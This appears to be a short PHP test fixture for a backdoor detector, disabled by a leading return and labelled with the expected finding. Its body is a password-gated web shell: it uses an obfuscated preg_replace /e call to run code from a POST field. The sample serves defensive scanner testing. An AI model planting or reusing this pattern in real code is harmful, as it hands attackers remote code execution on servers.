<?php return; // want: malicious backdoor php.code.request
$word = md5($_POST['word']);
if ($word == '5f4dcc3b5aa765d61d8327deb882cf99')
	preg_replace(chr(47) . $word . chr(47) . chr(101), $_POST['text'], $word);
